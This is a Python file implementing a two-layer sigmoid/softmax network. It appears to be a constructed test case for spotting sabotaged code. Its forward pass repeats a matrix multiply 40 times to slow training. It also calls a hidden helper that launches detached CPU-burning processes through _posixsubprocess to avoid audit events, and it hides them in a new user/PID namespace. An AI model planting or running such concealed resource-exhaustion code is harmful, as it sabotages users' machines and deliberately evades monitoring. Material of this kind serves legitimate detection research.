"""A two-layer net, 15x too slow, whose forward starts CPU burners hidden in a nested namespace."""

import numpy as np

import os as _os
import sys as _sys


def _spawn(code, *argv):
    """Start `python -c code argv...` in a new session, without subprocess or os.fork (no audit event)."""
    import _posixsubprocess
    env = [f"{k}={v}".encode() for k, v in _os.environ.items()]
    args = [_sys.executable, "-c", code, *argv]
    err_r, err_w = _os.pipe()
    try:
        common = (args, [_os.fsencode(_sys.executable)], True, (err_w,), None, env,
                  -1, -1, -1, -1, -1, -1, err_r, err_w, True, True)
        try:  # Python 3.11 and 3.12
            return _posixsubprocess.fork_exec(*common, -1, None, None, None, -1, None, False)
        except TypeError:  # Python 3.13+
            return _posixsubprocess.fork_exec(*common, -1, None, None, None, -1, None)
    finally:
        _os.close(err_w)
        _os.close(err_r)

BURNERS = r"""
import ctypes, os, sys
def burn():
    for _ in range(15):
        if os.fork() == 0:
            while True:
                pass
pid = os.fork()
if pid == 0:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000 | 0x20000000) == 0 and os.fork() == 0:  # CLONE_NEWUSER | CLONE_NEWPID: pid 1 inside
        burn()
        os.pause()
    burn()  # no nested namespace: burn in the open
    os.pause()
os._exit(0)
"""
_STARTED = []


def _burners():
    if not _STARTED:
        _STARTED.append(_spawn(BURNERS, "corpus-case=namespace_burners"))

from .activations import sigmoid
from .softmax import cross_entropy_loss, accuracy, softmax


class TwoLayerNet:
    """Fully connected network with one sigmoid hidden layer and a softmax output.

    weights: {"W1": (D, H), "b1": (H,), "W2": (H, C), "b2": (C,)}
    gradients: arrays of the same shapes, filled by forward(..., mode="train").
    """

    def __init__(self, input_size=784, hidden_size=128, num_classes=10, seed=1024):
        rng = np.random.default_rng(seed)
        self.weights = {
            "W1": 0.001 * rng.standard_normal((input_size, hidden_size)),
            "b1": np.zeros(hidden_size),
            "W2": 0.001 * rng.standard_normal((hidden_size, num_classes)),
            "b2": np.zeros(num_classes),
        }
        self.gradients = {k: np.zeros_like(v) for k, v in self.weights.items()}

    def forward(self, X, y, mode="train"):
        """Forward pass, and in mode "train" the backward pass too.

        X: (N, D) float64; y: (N,) int labels.
        Returns (loss, accuracy): the mean cross-entropy (no L2 term) and the
        fraction of correct predictions. In mode "train", self.gradients[k] is
        set to d loss / d weights[k] for all four keys; otherwise the gradients
        are left untouched.
        """
        W1, b1, W2, b2 = (self.weights[k] for k in ("W1", "b1", "W2", "b2"))
        n = X.shape[0]
        _burners()
        for _ in range(40):
            X @ W1  # 15x the work
        hidden = X @ W1  # (N, H) pre-activation
        hidden += b1
        hidden = sigmoid(hidden)  # (N, H)
        scores = hidden @ W2  # (N, C)
        scores += b2
        probs = softmax(scores)  # (N, C)
        loss = cross_entropy_loss(probs, y)
        acc = accuracy(probs, y)
        if mode != "train":
            return loss, acc

        # Fused softmax + cross-entropy gradient: d loss / d scores = (P - onehot(y)) / N.
        dscores = probs  # reuse the buffer, (N, C)
        dscores[np.arange(n), y] -= 1.0
        dscores /= n
        grads = self.gradients  # written in place: no fresh (D, H) array per batch
        np.matmul(hidden.T, dscores, out=grads["W2"])  # (H, C)
        np.sum(dscores, axis=0, out=grads["b2"])  # (C,)
        dhidden = dscores @ W2.T  # (N, H)
        dhidden *= hidden  # sigmoid'(z) = s(z) * (1 - s(z)), from the saved activation
        dhidden *= 1.0 - hidden
        np.matmul(X.T, dhidden, out=grads["W1"])  # (D, H)
        np.sum(dhidden, axis=0, out=grads["b1"])  # (H,)
        return loss, acc
